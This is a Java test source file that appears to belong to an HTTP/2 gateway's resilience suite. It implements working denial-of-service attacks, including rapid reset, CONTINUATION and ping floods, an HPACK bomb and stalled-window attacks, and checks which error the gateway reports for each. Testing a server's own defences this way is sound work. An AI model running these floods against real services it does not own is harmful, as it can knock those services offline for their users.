package dev.weir.gateway.attacks;

import static dev.weir.gateway.testing.Http2Peer.CONTINUATION;
import static dev.weir.gateway.testing.Http2Peer.DATA;
import static dev.weir.gateway.testing.Http2Peer.END_HEADERS;
import static dev.weir.gateway.testing.Http2Peer.END_STREAM;
import static dev.weir.gateway.testing.Http2Peer.HEADERS;
import static dev.weir.gateway.testing.Http2Peer.PING;
import static dev.weir.gateway.testing.Http2Peer.SETTINGS;

import dev.weir.gateway.testing.Http2Peer;
import dev.weir.status.Cause;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;

/// What HTTP/2 makes cheap for a client and dear for a server, unless that looks out.
final class Http2Attacks {
  private static final Duration REST = Duration.ofMillis(50);
  private static final Duration DRIP = Duration.ofMillis(100);
  private static final int CANCEL = 8;
  private static final int INITIAL_WINDOW_SIZE = 4;
  private static final byte[] NO_WINDOW = {0, INITIAL_WINDOW_SIZE, 0, 0, 0, 0};

  private Http2Attacks() {}

  static List<Attack> all(int scale) {
    int attackers = 2 * scale;
    return List.of(
        flood("rapid reset (CVE-2023-44487)", attackers, Http2Attacks::resets),
        flood(
            "resets that the gateway has to make (CVE-2025-8671)", attackers, Http2Attacks::errors),
        flood("field blocks that do not end (CVE-2024-27316)", attackers, Http2Attacks::endless),
        flood("settings (CVE-2019-9515)", attackers, peer -> many(peer, SETTINGS, 0)),
        flood("pings (CVE-2019-9512)", attackers, peer -> many(peer, PING, 0, new byte[8])),
        flood("empty frames (CVE-2019-9518)", attackers, Http2Attacks::empty),
        Attack.of(
            "an HPACK bomb",
            field -> repeat(field, attackers, Http2Attacks::bomb),
            Cause.REQUEST_HEADER_TOO_LARGE,
            1),
        Attack.of(
            "windows that stay shut (CVE-2019-9517)",
            field -> shut(field, 10 * scale),
            Cause.CLIENT_GONE,
            100 * scale),
        Attack.of(
            "windows that open by a byte (CVE-2019-9511)",
            field -> open(field, 10 * scale),
            Cause.CLIENT_GONE,
            100 * scale),
        Attack.of(
            "slow bodies over HTTP/2",
            field -> drip(field, 10 * scale),
            Cause.REQUEST_TIMEOUT,
            100 * scale));
  }

  private static Attack flood(String name, int attackers, Flood flood) {
    return Attack.of(
        name, field -> repeat(field, attackers, flood), Cause.CONNECTION_ABUSED, attackers);
  }

  // Again and again, each time until the gateway has enough of it.
  private static void repeat(Field field, int attackers, Flood flood) {
    for (int i = 0; i < attackers; i++) {
      field.again(
          REST,
          () -> {
            try (Http2Peer peer = Http2Peer.connect(field.address())) {
              flood.over(peer);
              peer.closes();
            }
          });
    }
  }

  private static void resets(Http2Peer peer) throws IOException {
    byte[] block = get(peer, "/");
    for (int stream = 1; stream < 20_000; stream += 2) {
      peer.send(HEADERS, END_HEADERS | END_STREAM, stream, block).reset(stream, CANCEL);
    }
  }

  // What a stream depends on cannot be itself: each is an error of its stream, which we reset.
  private static void errors(Http2Peer peer) throws IOException {
    byte[] block = get(peer, "/");
    for (int stream = 1; stream < 20_000; stream += 2) {
      peer.send(HEADERS, END_HEADERS | END_STREAM, stream, block).window(stream, 0);
    }
  }

  private static void endless(Http2Peer peer) throws IOException {
    peer.send(HEADERS, 0, 1, get(peer, "/"));
    byte[] more = peer.block("x", "a".repeat(50));
    for (int i = 0; i < 10_000; i++) {
      peer.send(CONTINUATION, 0, 1, more);
    }
  }

  private static void many(Http2Peer peer, int type, int stream, byte... payload)
      throws IOException {
    for (int i = 0; i < 20_000; i++) {
      peer.send(type, 0, stream, payload);
    }
  }

  private static void empty(Http2Peer peer) throws IOException {
    peer.request(1, 0, "POST", "/");
    many(peer, DATA, 1);
  }

  // Four thousand bytes that the decoder remembers, and each byte behind them asks for them again.
  private static void bomb(Http2Peer peer) throws IOException {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    block.writeBytes(get(peer, "/"));
    block.writeBytes(new byte[] {0x40, 1, 'x', 0x7f, (byte) 0xa1, 0x1e});
    block.writeBytes("a".repeat(4_000).getBytes(java.nio.charset.StandardCharsets.US_ASCII));
    byte[] again = new byte[8_000];
    Arrays.fill(again, (byte) 0xbe);
    block.writeBytes(again);
    for (int stream = 1; stream < 200; stream += 2) {
      peer.send(HEADERS, END_HEADERS | END_STREAM, stream, block.toByteArray());
    }
  }

  private static void shut(Field field, int attackers) throws IOException {
    for (int i = 0; i < attackers; i++) {
      Http2Peer peer = field.hold(Http2Peer.connect(field.address()));
      peer.send(SETTINGS, 0, 0, NO_WINDOW);
      for (int stream = 1; stream < 20; stream += 2) {
        peer.get(stream, "/large");
      }
    }
  }

  private static void open(Field field, int attackers) throws IOException {
    for (int i = 0; i < attackers; i++) {
      Http2Peer peer = field.hold(Http2Peer.connect(field.address()));
      peer.send(SETTINGS, 0, 0, NO_WINDOW);
      for (int stream = 1; stream < 20; stream += 2) {
        peer.get(stream, "/large");
      }
      field.again(
          DRIP,
          () -> {
            for (int stream = 1; stream < 20; stream += 2) {
              peer.window(stream, 1);
            }
          });
    }
  }

  private static void drip(Field field, int attackers) throws IOException {
    for (int i = 0; i < attackers; i++) {
      Http2Peer peer = field.hold(Http2Peer.connect(field.address()));
      for (int stream = 1; stream < 20; stream += 2) {
        peer.request(stream, 0, "POST", "/");
      }
      field.again(
          DRIP,
          () -> {
            for (int stream = 1; stream < 20; stream += 2) {
              peer.data(stream, 0, "a");
            }
          });
    }
  }

  private static byte[] get(Http2Peer peer, String path) {
    return peer.block(
        ":method", "GET", ":scheme", "http", ":authority", "localhost", ":path", path);
  }

  /// What is sent over one connection.
  @FunctionalInterface
  private interface Flood {
    void over(Http2Peer peer) throws IOException;
  }
}
